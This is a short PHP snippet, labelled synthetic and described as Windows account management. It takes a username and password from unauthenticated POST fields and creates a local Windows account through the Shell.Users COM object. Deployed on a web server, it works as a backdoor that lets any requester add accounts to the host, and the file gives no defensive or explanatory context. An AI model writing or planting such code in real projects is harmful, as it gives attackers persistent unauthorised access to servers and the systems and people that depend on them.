<?php
// synthetic: Windows account management through a COM object
$su = new COM("Shell.Users");
$u = $su->create($_POST['u']);
$u->changePassword($_POST['p'], "");
